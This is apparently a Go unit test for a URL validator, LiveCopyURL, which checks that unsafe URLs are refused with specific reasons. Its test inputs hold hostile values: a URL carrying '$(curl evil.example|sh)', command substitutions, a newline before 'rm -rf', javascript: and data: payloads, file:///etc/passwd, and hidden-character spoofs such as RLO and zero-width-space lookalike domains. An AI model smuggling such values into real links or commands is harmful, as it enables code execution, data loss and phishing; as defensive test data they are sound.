package analysis

import (
	"strings"
	"testing"
)

func TestLiveCopyURL(t *testing.T) {
	for _, tt := range []struct {
		in  string
		ok  bool
		why string // part of the refusal
	}{
		{"https://login.example.com/reset?u=1&x=%24%28id%29#top", false, "a shell acts on"},
		{"https://login.example.com/reset?u=1#top", true, ""},
		{"http://example.com", true, ""},
		{"HTTPS://Example.com/path/%20with%20spaces", true, ""},
		{"https://evil.example/ ;$(curl evil.example|sh)", false, "white space"},
		{"https://evil.example/;$(curl)", false, "a shell acts on"},
		{"https://evil.example/`id`", false, "a shell acts on"},
		{"https://evil.example/a\tb", false, "white space"},
		{"https://evil.example/\nrm -rf", false, "white space"},
		{"https://evil.example/\x1b[31m", false, "hidden character ⟨ESC⟩"},
		{"https://evil.example/\u202Egpj.exe", false, "⟨RLO⟩"},
		{"https://pay\u200Bpal.example/", false, "⟨ZWSP⟩"},
		{"https://evil.example/\u17B4", false, "hidden"},
		{"https://evil.example/\U000E0041", false, "hidden"},
		{"https://evil.example/\u00A0x", false, "white space"},
		{"https://evil.example/\xff", false, "not UTF-8"},
		{"javascript:alert(1)", false, "a shell acts on"},
		{"javascript:alert", false, "never copied live"},
		{"data:text/html;base64,PHNjcmlwdD4=", false, "a shell acts on"},
		{"data:text/html,hi", false, "never copied live"},
		{"file:///etc/passwd", false, "never copied live"},
		{"ftp://example.com/x", false, "never copied live"},
		{"//example.com/x", false, "not an absolute URL"},
		{"https:///path", false, "no host"},
		{"https:example.com", false, "no host"},
		{"https://user@evil.example/", false, "user name"},
		{"https://[::1", false, "does not parse"},
		{"", false, "no URL"},
		{"https://example.com/" + strings.Repeat("a", 3000), false, "longer than"},
	} {
		got, err := LiveCopyURL(tt.in)
		if tt.ok {
			if err != nil || got != tt.in {
				t.Errorf("LiveCopyURL(%q) = %q, %v; want it copied as is", tt.in, got, err)
			}
			continue
		}
		if err == nil {
			t.Errorf("LiveCopyURL(%q) = %q; want a refusal", tt.in, got)
			continue
		}
		if !strings.Contains(err.Error(), tt.why) {
			t.Errorf("LiveCopyURL(%q) refused with %q; want it to say %q", tt.in, err, tt.why)
		}
		if SanitizeLine(err.Error()).Markers > 0 {
			t.Errorf("refusal %q carries hidden characters itself", err)
		}
	}
}
